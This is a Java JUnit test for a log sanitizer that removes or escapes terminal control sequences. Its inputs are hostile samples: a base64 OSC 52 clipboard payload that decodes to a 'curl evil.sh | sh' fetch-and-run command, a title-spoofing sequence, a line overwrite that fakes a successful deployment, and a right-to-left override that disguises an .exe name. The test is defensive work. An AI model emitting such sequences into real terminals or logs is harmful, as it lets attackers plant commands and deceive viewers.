package dev.slipway.logs;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** What a hostile app prints to drive its viewers' terminals, as the log stores it. */
class LogTextTest {
    private static void noControls(String s) {
        assertThat(s.chars()).as(s).noneMatch(c -> c < 0x20 && c != '\t' || c == 0x7f || c >= 0x80 && c <= 0x9f
                || c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069);
    }

    @Test
    void sequencesAreRemovedAndOtherControlsShown() {
        assertThat(LogText.clean("copy \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007done")).isEqualTo("copy done");
        assertThat(LogText.clean("\u001b]0;owned\u001b\\title")).isEqualTo("title");
        assertThat(LogText.clean("building\u001b[2K\rsuccess Deployment is live")).isEqualTo("building\\x0dsuccess Deployment is live");
        assertThat(LogText.clean("\u001b[31mred\u001b[0m")).isEqualTo("red");
        assertThat(LogText.clean("back\b\b\bspace")).isEqualTo("back\\x08\\x08\\x08space");
        assertThat(LogText.clean("\u009b31mC1\u009d0;t\u009c")).isEqualTo("C1");
        assertThat(LogText.clean("invoice\u202egnp.exe")).isEqualTo("invoice\\u202egnp.exe");
        assertThat(LogText.clean("\u001bPq#0;2;0;0;0\u001b\\sixel")).isEqualTo("sixel");
        for (String s : new String[] {"\u001b]52;c;x", "\u001b[", "\u001b", "a\u0000b"}) noControls(LogText.clean(s));
    }

    @Test
    void ordinaryLinesAreUntouched() {
        String plain = "GET / 200 12 ms\tüñí 日本 \uD83D\uDE80";
        assertThat(LogText.clean(plain)).isSameAs(plain);
    }
}
